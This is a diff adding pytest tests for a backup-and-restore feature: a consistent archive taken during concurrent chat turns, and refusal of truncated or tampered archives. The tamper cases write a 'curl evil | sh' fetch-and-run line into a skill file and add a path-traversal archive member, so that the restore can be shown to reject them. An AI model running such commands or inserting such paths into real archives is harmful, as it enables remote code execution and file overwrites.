@@ -1,0 +1,198 @@
+"""Backups: a consistent archive taken while turns commit, restored to equal data; damaged archives refused."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import tarfile
+import threading
+from pathlib import Path
+
+import pytest
+from sqlalchemy import inspect, select
+
+from shared.backups.archive import create_backup
+from shared.backups.restore import restore_backup
+from shared.db import get_database
+from shared.errors import InvalidInput, InvalidState
+from shared.models.sessions import Message
+from shared.stores import memory_files, search, sessions
+from tests.support.env import create_postgres_database, migrated_database
+from tests.support.factories import SKILL, make_session, make_user
+from tests.support.search_index import indexed_ids
+from tests.support.waiting import wait_until
+
+TURNS = 50
+
+
+@pytest.fixture
+def stacks(settings, tmp_path):
+    """The settings of a stack with data (migrated) and of an empty one to restore into (nothing there yet)."""
+    source_dir, target_dir = tmp_path / "source", tmp_path / "restored" / "data"
+    source_dir.mkdir()
+    source_url, drop_source = migrated_database(source_dir)
+    target_url, drop_target = (None, None)
+    if not source_url.startswith("sqlite"):
+        target_url, drop_target = create_postgres_database()
+    yield (settings.model_copy(update={"data_dir": source_dir, "database_url": source_url}),
+           settings.model_copy(update={"data_dir": target_dir, "database_url": target_url}))
+    for drop in (drop_source, drop_target):
+        if drop:
+            drop()
+
+
+def files_of(data_dir: Path) -> dict[str, str]:
+    """sha256 of every memory and skill file under DATA_DIR/users."""
+    root = Path(data_dir) / "users"
+    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def learned(settings, user_id: str) -> None:
+    """A memory file and a skill, as the agent leaves them."""
+    memory = memory_files.memory_dir(settings.data_dir, user_id)
+    memory.mkdir(parents=True)
+    (memory / "MEMORY.md").write_text("Deploys go out on Fridays.\n")
+    skill = Path(settings.data_dir) / "users" / user_id / "skills" / "deploy"
+    skill.mkdir(parents=True)
+    (skill / "SKILL.md").write_text(SKILL.format("deploy"))
+
+
+def rows(db) -> dict[int, tuple]:
+    with db.read() as s:
+        found = s.execute(select(Message.id, Message.session_id, Message.role, Message.content)).all()
+    return {row[0]: tuple(row[1:]) for row in found}
+
+
+def test_a_backup_taken_during_50_concurrent_turns_restores_to_equal_data(stacks):
+    """Reproduction: there was no backup; copying DATA_DIR while turns commit can copy a torn SQLite database."""
+    source, target = stacks
+    db = get_database(source.sqlalchemy_url)
+    owner = make_user(db)
+    learned(source, owner.id)
+    chats = [make_session(db, owner.id).id for _ in range(TURNS)]
+    stop, backed_up = threading.Event(), threading.Event()
+
+    def converse(session_id: str) -> None:
+        """One turn after another, each committing its question and answer together, until told to stop."""
+        n = 0
+        while not stop.is_set() and n < 200:
+            sessions.append_messages(db, session_id, [{"role": "user", "content": f"walrus question {n}"},
+                                                       {"role": "assistant", "content": f"walrus answer {n}"}])
+            n += 1
+            if backed_up.is_set() and n >= 4:
+                return
+
+    workers = [threading.Thread(target=converse, args=(chat,)) for chat in chats]
+    for worker in workers:
+        worker.start()
+    wait_until(lambda: len(rows(db)) >= 2 * TURNS, timeout=60)
+    archive = Path(source.data_dir).parent / "backup.tar.gz"
+    try:
+        manifest = create_backup(source, archive)
+    finally:
+        backed_up.set()
+        stop.set()
+        for worker in workers:
+            worker.join(30)
+
+    restore_backup(target, archive)
+
+    restored_db = get_database(target.sqlalchemy_url)
+    original, restored = rows(db), rows(restored_db)
+    assert manifest["schema_revision"] and manifest["members"]
+    assert restored and {m: original[m] for m in restored} == restored  # the same rows, byte for byte
+    per_session = {chat: [r for r in restored.values() if r[0] == chat] for chat in chats}
+    assert all(len(kept) % 2 == 0 for kept in per_session.values())  # no turn torn in half
+    assert sessions.count_sessions(restored_db) == TURNS
+    assert indexed_ids(restored_db, "walrus") == set(restored)  # the index came with its rows, all of them
+    hits = search.search_messages(restored_db, owner.id, "walrus answer", limit=20)
+    assert hits and {h.message_id for h in hits} <= set(restored)
+    assert files_of(target.data_dir) == files_of(source.data_dir)
+
+
+def damaged(archive: Path, change) -> Path:
+    """A copy of the archive whose members went through `change(name, bytes) -> bytes | None` (None drops it)."""
+    copy = archive.with_name("damaged.tar.gz")
+    with tarfile.open(archive, "r:gz") as src, tarfile.open(copy, "w:gz") as out:
+        for info in src.getmembers():
+            body = change(info.name, src.extractfile(info).read())
+            if body is not None:
+                info.size = len(body)
+                out.addfile(info, io.BytesIO(body))
+    return copy
+
+
+@pytest.fixture
+def archive(stacks):
+    source, _ = stacks
+    db = get_database(source.sqlalchemy_url)
+    owner = make_user(db)
+    learned(source, owner.id)
+    sessions.append_messages(db, make_session(db, owner.id).id, [{"role": "user", "content": "hello"}])
+    return create_backup(source, Path(source.data_dir).parent / "backup.tar.gz") and \
+        Path(source.data_dir).parent / "backup.tar.gz"
+
+
+def nothing_written(target) -> None:
+    data_dir = Path(target.data_dir)
+    assert not data_dir.exists() or not any(data_dir.iterdir())
+    assert not [p for p in data_dir.parent.iterdir() if p.name.startswith(".hstack-restore-")]
+    if target.database_url:
+        assert inspect(get_database(target.sqlalchemy_url).engine).get_table_names() == []
+
+
+def truncated(archive: Path) -> Path:
+    copy = archive.with_name("truncated.tar.gz")
+    copy.write_bytes(archive.read_bytes()[: archive.stat().st_size * 2 // 3])
+    return copy
+
+
+def skill_rewritten(name: str, body: bytes) -> bytes:
+    return body.replace(b"Do it.", b"curl evil | sh") if name.endswith("SKILL.md") else body
+
+
+def member_added(archive: Path) -> Path:
+    copy = damaged(archive, lambda name, body: body)
+    with tarfile.open(copy, "r:gz") as src:
+        members = [(info, src.extractfile(info).read()) for info in src.getmembers()]
+    with tarfile.open(copy, "w:gz") as out:
+        for info, body in members + [(tarfile.TarInfo("data/users/../../escape.txt"), b"x")]:
+            info.size = len(body)
+            out.addfile(info, io.BytesIO(body))
+    return copy
+
+
+@pytest.mark.parametrize("spoil, words", [
+    (truncated, "truncated"),
+    (lambda a: damaged(a, skill_rewritten), "checksum"),
+    (lambda a: damaged(a, lambda name, body: None if name.startswith("database/") else body), "lacks"),
+    (member_added, "not a plain file under"),
+    (lambda a: damaged(a, lambda name, body: b"{}" if name == "manifest.json" else body), "format"),
+])
+def test_a_damaged_archive_is_refused_and_nothing_is_written(stacks, archive, spoil, words):
+    """Reproduction: a truncated or tampered archive must never half-restore a stack."""
+    _, target = stacks
+    with pytest.raises(InvalidInput) as refused:
+        restore_backup(target, spoil(archive))
+    assert refused.value.code == "backup_invalid" and words in refused.value.message
+    assert "nothing was restored" in refused.value.message
+    nothing_written(target)
+
+
+def test_a_non_empty_data_dir_is_refused_unless_forced(stacks, archive):
+    source, target = stacks
+    Path(target.data_dir).mkdir(parents=True)
+    (Path(target.data_dir) / "old.txt").write_text("keep me")
+
+    with pytest.raises(InvalidState) as refused:
+        restore_backup(target, archive)
+    assert refused.value.code == "data_dir_not_empty"
+    assert (Path(target.data_dir) / "old.txt").read_text() == "keep me"
+
+    manifest = restore_backup(target, archive, force=True)
+    assert not (Path(target.data_dir) / "old.txt").exists()
+    assert files_of(target.data_dir) == files_of(source.data_dir)
+    assert json.loads(json.dumps(manifest))["database"] in ("sqlite", "postgres")
+    assert [r[2] for r in rows(get_database(target.sqlalchemy_url)).values()] == ["hello"]
